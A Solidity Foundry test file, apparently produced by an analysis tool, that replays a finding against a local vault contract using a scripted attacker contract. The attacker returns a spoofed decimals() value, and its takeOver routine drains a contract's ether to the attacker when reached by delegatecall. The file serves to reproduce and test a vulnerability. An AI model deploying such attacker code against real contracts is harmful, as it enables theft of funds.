// SPDX-License-Identifier: UNLICENSED
pragma solidity >=0.6.2;

// after assertion: it reverts at test.sol:Vault
// Save it as test/after.t.sol, and run: forge test --match-test test_after -vvv
// It fails as long as the finding happens, and ends early, with a log, where a call before it ends otherwise than when it was found.

import {Victim} from "../test.sol";

interface SightlineVm {
    function deal(address account, uint256 wei_) external;
    function warp(uint256 time) external;
    function roll(uint256 number) external;
    function prank(address sender, address origin) external;
    function chainId(uint256 id) external;
    function coinbase(address account) external;
    function setNonce(address account, uint64 nonce) external;
    function etch(address account, bytes calldata code) external;
}

contract Sightline_after {
    SightlineVm private constant sightline = SightlineVm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant deployer_ = 0x107a1c96B1f1724FE0B7E130553f865dfB0D0d01;
    address private constant user1_ = 0x2085218B91568A29C0105CFc787BfA8b4a5fda01;
    address private constant outsider_ = 0xAA943ca46F50830Ea499d1521E9676543d5987B1;
    address private constant victim_ = 0x5ef8Be17852fF2ba4e3B019E1f367bBf36273B4b;
    SightlineAttacker private constant attackerContract_ = SightlineAttacker(payable(0x9539d68C3fc7e457C003045f3fFbAd820aA49875));

    function sightlineBlock(uint256 fee, bytes32 random) private {
        (bool ok, ) = address(sightline).call(abi.encodeWithSignature("fee(uint256)", fee));
        (ok, ) = address(sightline).call(abi.encodeWithSignature("prevrandao(bytes32)", random));
        if (!ok) (ok, ) = address(sightline).call(abi.encodeWithSignature("difficulty(uint256)", uint256(random)));
    }

    function sightlineDeploy(address from, uint64 nonce, uint256 value, bytes memory code) private returns (address made) {
        sightline.setNonce(from, nonce);
        sightline.prank(from, from);
        assembly { made := create(value, add(code, 32), mload(code)) }
        require(made != address(0), "a constructor fails, unlike when the World was made");
    }

    function sightlineLog(string memory text) private view {
        (bool ok, ) = address(0x000000000000000000636F6e736F6c652e6c6f67).staticcall(abi.encodeWithSignature("log(string)", text));
        ok;
    }

    function setUp() public {
        sightline.warp(1750000000);
        sightline.roll(20000000);
        sightline.chainId(31337);
        sightline.coinbase(0x00000000000000000000000000000000C01BA5e0);
        sightlineBlock(1000000000, 0x5eed5eed5eed5eed5eed5eed5eed5eed5eed5eed5eed5eed5eed5eed5eed5eed);
        sightline.deal(deployer_, 79228162514264337593543950336);
        sightline.deal(user1_, 79228162514264337593543950336);
        sightline.deal(outsider_, 79228162514264337593543950336);
        sightlineDeploy(deployer_, 0, 0, type(Victim).creationCode); // victim_
        sightline.etch(address(attackerContract_), type(SightlineAttacker).runtimeCode);
        sightline.deal(address(attackerContract_), 79228162514264337593543950336);
    }

    function test_after() public {
        bool ok;
        bytes memory out;

        // 1. user1 victim.fund{value: 1000}()
        sightline.warp(1750000000);
        sightline.roll(20000000);
        sightline.prank(user1_, user1_);
        (ok, out) = victim_.call{value: 1000}(hex"b60d4288");
        if (!ok) return sightlineLog("call 1 fails, unlike when it was found");

        // 2. attackerContract victim.twoViews()
        // 1) paid (the first time), attackerContract answers as expected
        attackerContract_.whenPaid();
        attackerContract_.atMost(1);
        // 2) called back by decimals, after it was paid, attackerContract answers 6
        attackerContract_.whenCalled(bytes4(keccak256("decimals()")));
        attackerContract_.onlyAfter(1);
        attackerContract_.thenAnswer(abi.encode(6));
        attackerContract_.expect(bytes4(keccak256("decimals()")), abi.encode(18));
        sightline.prank(address(attackerContract_), outsider_);
        (ok, out) = victim_.call(hex"c971915f");
        if (!ok) return sightlineLog("call 2 fails, unlike when it was found");

        // 3. user1 victim.reveal()
        attackerContract_.forgetAnswers();
        sightline.prank(user1_, user1_);
        (ok, out) = victim_.call(hex"a475b5dd");
        if (!ok && keccak256(out) == 0x126f7342474c355d34f73fedd3e1bff474fc05c852329af920c0d7d5cc4b75c7) {
            assembly { revert(add(out, 32), mload(out)) } // the finding: the call should not fail like this
        }
    }
}

// A contract of an attacker. The test tells it what to do when it is called: of its answers, the
// first one that fits a call is given; where none does, it answers what callers expect.
contract SightlineAttacker {
    enum End { Expected, Answers, Reverts, Burns, Gone }

    struct Call {
        address to;
        uint256 value;
        bytes data;
    }

    struct Answer {
        bytes4 selector; // of the called function; zero: it is paid
        bool always; // whatever is called
        uint256 most; // how often it is given; zero: always
        uint256 given; // how often it was, if that is counted
        uint256 previous; // number of the answer, from 1, that must have been given before; zero: none
        Call[] calls; // that it makes first, whatever becomes of them
        End end;
        bytes data;
    }

    address private constant SELF = 0x9539d68C3fc7e457C003045f3fFbAd820aA49875;
    uint256 private constant MARKED = uint256(keccak256("sightline: written by an attacker's code in another contract's storage"));

    uint256 private told; // 0: nothing, 1: something, 2: to refuse ether
    Answer[] private answers;
    mapping(bytes4 => bool) private known;
    mapping(bytes4 => bytes) private expected;

    // What callers of a function expect.
    function expect(bytes4 selector, bytes memory data) public {
        known[selector] = true;
        expected[selector] = data;
    }

    // An answer begins with when it is given.
    function whenCalled(bytes4 selector) public {
        answers.push().selector = selector;
        settle();
    }

    function whenPaid() public {
        whenCalled(bytes4(0));
    }

    function whenever() public {
        answers.push().always = true;
        settle();
    }

    function atMost(uint256 times) public {
        latest().most = times;
    }

    function onlyAfter(uint256 answer) public {
        latest().previous = answer;
    }

    // Then comes what it does.
    function thenCall(address to, uint256 value, bytes memory data) public {
        latest().calls.push(Call(to, value, data));
    }

    // Without one of these, it answers what is expected.
    function thenAnswer(bytes memory data) public {
        conclude(End.Answers, data);
    }

    function thenRevert(bytes memory data) public {
        conclude(End.Reverts, data);
    }

    function thenBurnAllGas() public {
        conclude(End.Burns, "");
    }

    function forgetAnswers() public {
        delete answers;
        told = 0;
    }

    function latest() private view returns (Answer storage) {
        return answers[answers.length - 1];
    }

    function conclude(End end, bytes memory data) private {
        latest().end = end;
        latest().data = data;
        settle();
    }

    function settle() private {
        told = 1;
        for (uint256 i = 0; i < answers.length; i++) {
            if (answers[i].always || answers[i].selector == bytes4(0)) {
                if (answers[i].end == End.Reverts || answers[i].end == End.Burns) told = 2;
                break;
            }
        }
    }

    receive() external payable {
        respond();
    }

    fallback() external payable {
        respond();
    }

    function respond() private {
        if (address(this) != SELF) takeOver();
        if (msg.data.length == 0) {
            uint256 asTold = told;
            if (asTold == 0) return;
            if (gasleft() < 2300) { // transfer and send leave too little to look further
                require(asTold == 1);
                return;
            }
        }
        bytes4 selector = msg.data.length < 4 ? bytes4(0) : msg.sig;
        for (uint256 i = 0; i < answers.length; i++) {
            Answer storage a = answers[i];
            if (!a.always && a.selector != selector) continue;
            if (a.previous > 0 && answers[a.previous - 1].given == 0) continue;
            if (a.most > 0) {
                if (a.given >= a.most) continue;
                a.given++;
            }
            for (uint256 j = 0; j < a.calls.length; j++) {
                (bool ok, ) = a.calls[j].to.call{value: a.calls[j].value}(a.calls[j].data);
                ok;
            }
            if (a.end != End.Expected) finish(a.end, a.data);
            break;
        }
        if (selector != bytes4(0)) answerAsExpected(selector);
    }

    function finish(End end, bytes memory data) private {
        if (end == End.Answers) assembly { return(add(data, 32), mload(data)) }
        if (end == End.Reverts) assembly { revert(add(data, 32), mload(data)) }
        assembly { invalid() }
    }

    function answerAsExpected(bytes4 selector) private view {
        bytes memory data = abi.encode(selector); // what receivers of tokens answer
        if (selector == 0x01ffc9a7) { // supportsInterface: all but 0xffffffff
            bytes32 id;
            assembly { id := calldataload(4) }
            data = abi.encode(bytes4(id) != 0xffffffff);
        } else if (known[selector]) {
            data = expected[selector];
        }
        assembly { return(add(data, 32), mload(data)) }
    }

    // A contract runs this code in its own name (DELEGATECALL): that is how far an attacker gets there.
    function takeOver() private {
        address self = SELF;
        uint256 marked = MARKED;
        assembly {
            sstore(marked, 1)
            if balance(address()) { pop(call(gas(), self, balance(address()), 0, 0, 0, 0)) }
            calldatacopy(0, 0, calldatasize())
            pop(staticcall(gas(), self, 0, calldatasize(), 0, 0))
            returndatacopy(0, 0, returndatasize())
            return(0, returndatasize())
        }
    }
}
